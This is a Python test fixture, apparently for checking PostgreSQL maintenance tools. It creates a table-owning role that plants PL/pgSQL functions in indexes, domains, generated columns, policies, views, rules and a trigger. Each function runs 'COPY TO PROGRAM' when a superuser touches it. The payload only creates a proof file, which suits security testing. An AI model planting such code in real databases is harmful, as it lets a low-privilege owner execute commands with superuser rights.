"""What somebody may leave in a database who owns a table of it and nothing else: code that tries to run a program."""

from __future__ import annotations

import tempfile
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import psycopg

OWNER = "shop_till"
RUNNING = """
CREATE FUNCTION public.run() RETURNS int VOLATILE LANGUAGE plpgsql AS
  $$ BEGIN EXECUTE $q$COPY (SELECT 1) TO PROGRAM 'touch {proof}'$q$; RETURN 1; END $$
"""
TABLES = (
    # What an index calls may only read, and calls this.
    "CREATE FUNCTION public.called(i int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS"
    " $$ BEGIN PERFORM public.run(); RETURN i; EXCEPTION WHEN OTHERS THEN RETURN i; END $$",
    "CREATE FUNCTION public.fired() RETURNS trigger LANGUAGE plpgsql AS"
    " $$ BEGIN PERFORM public.called(1); RETURN NEW; END $$",
    "CREATE DOMAIN public.odd AS int CHECK (public.called(VALUE) > 0)",
    "CREATE TABLE public.till (id int, kind public.odd, twice int GENERATED ALWAYS AS (public.called(id)) STORED,"
    " CHECK (public.called(id) > 0))",
    "INSERT INTO public.till (id, kind) SELECT i, i FROM generate_series(1, 100) i",
    "CREATE INDEX ON public.till (public.called(id))",
    "CREATE INDEX ON public.till (id) WHERE public.called(id) > 0",
    "CREATE POLICY odd ON public.till USING (public.called(id) > 0)",
    "ALTER TABLE public.till ENABLE ROW LEVEL SECURITY",
    "CREATE VIEW public.looked AS SELECT public.called(id) FROM public.till",
    "CREATE MATERIALIZED VIEW public.kept AS SELECT public.called(id) FROM public.till",
    "CREATE RULE also AS ON UPDATE TO public.till DO ALSO SELECT public.called(1)",
)
TRIGGER = (
    "CREATE TRIGGER fired BEFORE UPDATE OR INSERT OR DELETE ON public.ir_mail_server"
    " FOR EACH ROW EXECUTE FUNCTION public.fired()"
)


@dataclass
class Hostile:
    """A role of a server that owns what it is given, and the file that its code makes where it may run a program."""

    superuser_url: str
    proof: Path = field(default_factory=lambda: Path(tempfile.gettempdir()) / f"proof-{uuid.uuid4().hex}")

    def run(self, url: str, *statements: str) -> None:
        """Run what only this role may, with the rights of this role."""
        with psycopg.connect(url, autocommit=True) as connection:
            connection.execute(f"SET SESSION AUTHORIZATION {OWNER}")
            for statement in statements:
                connection.execute(statement.format(proof=self.proof).encode())

    def leave_code(self, url: str) -> None:
        """Leave code in a database in every place where an owner may."""
        with psycopg.connect(url, autocommit=True) as connection:
            connection.execute(f"GRANT CREATE ON SCHEMA public TO {OWNER}")
        self.run(url, RUNNING, *TABLES)
        assert not self.proof.exists()

    def is_armed(self, url: str) -> bool:
        """Tell whether a superuser who calls the code runs the program."""
        with psycopg.connect(url, autocommit=True) as connection:
            connection.execute("SELECT public.called(1)")
        return self.proof.exists()


@contextmanager
def hostile_on(superuser_url: str) -> Iterator[Hostile]:
    """Make the role on a server. What it owns is gone before the end."""
    hostile = Hostile(superuser_url)
    with psycopg.connect(superuser_url, autocommit=True) as connection:
        connection.execute(f"CREATE ROLE {OWNER}")
    try:
        yield hostile
    finally:
        hostile.proof.unlink(missing_ok=True)
        with psycopg.connect(superuser_url, autocommit=True) as connection:
            connection.execute(f"DROP ROLE {OWNER}")
